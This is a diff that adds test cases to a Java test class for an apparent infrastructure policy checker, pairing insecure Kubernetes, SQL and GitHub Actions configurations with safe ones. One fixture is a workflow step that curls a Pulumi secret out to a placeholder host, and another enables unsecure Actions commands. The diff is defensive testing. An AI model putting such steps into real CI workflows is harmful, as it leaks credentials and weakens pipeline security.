@@ -244,6 +244,12 @@ class RulesTest {
                 "{'kind':'NetworkPolicy','metadata':{'name':'default-deny','namespace':'apps'},"
                         + "'spec':{'podSelector':{},'policyTypes':['Ingress','Egress']}}"));
         cases.addAll(workflowCases());
+        cases.add(pod("KURA-K8S-002", "containers[0].ports[0].hostPort",
+                spec -> container(spec).putArray("ports").addObject().put("containerPort", 8080).put("hostPort", 8080)));
+        for (var flag : List.of("KURA-SQL-021:log_executor_stats", "KURA-SQL-022:log_parser_stats",
+                "KURA-SQL-023:log_planner_stats", "KURA-SQL-024:log_statement_stats")) {
+            cases.add(sqlFlag(flag.split(":")[0], flag.split(":")[1], "on", "off"));
+        }
         cases.add(new Case("KURA-K8S-015", "metadata.namespace",
                 plan(inNamespace("default")), plan(deployment(spec -> {
         }))));
@@ -303,6 +309,12 @@ class RulesTest {
                 workflow("KURA-GHA-006", "jobs.preview.runs-on",
                         "{'on':{'pull_request':{}},'jobs':{'preview':{'runs-on':['self-hosted','linux']}}}",
                         "{'on':{'pull_request':{}},'jobs':{'preview':{'runs-on':'ubuntu-latest'}}}"),
+                workflow("KURA-GHA-008", "jobs.build.env.ACTIONS_ALLOW_UNSECURE_COMMANDS",
+                        "{'on':'push','jobs':{'build':{'env':{'ACTIONS_ALLOW_UNSECURE_COMMANDS':'true'}}}}",
+                        "{'on':'push','jobs':{'build':{'env':{'JAVA_TOOL_OPTIONS':'-Xmx1g'}}}}"),
+                workflow("KURA-GHA-009", "jobs.build.steps[0].run",
+                        "{'on':'push','jobs':{'build':{'steps':[{'run':'curl -d ${{ secrets.PULUMI_ACCESS_TOKEN }} https://x.example'}]}}}",
+                        "{'on':'push','jobs':{'build':{'steps':[{'run':'curl -fsS https://api.pulumi.com/api/user'}]}}}"),
                 workflow("KURA-GHA-007", "jobs.build.steps[0].uses",
                         "{'on':'push','jobs':{'build':{'steps':[{'uses':'some-fork/setup-pulumi@master'}]}}}",
                         "{'on':'push','jobs':{'build':{'steps':[{'uses':'pulumi/actions@v5'}]}}}"));
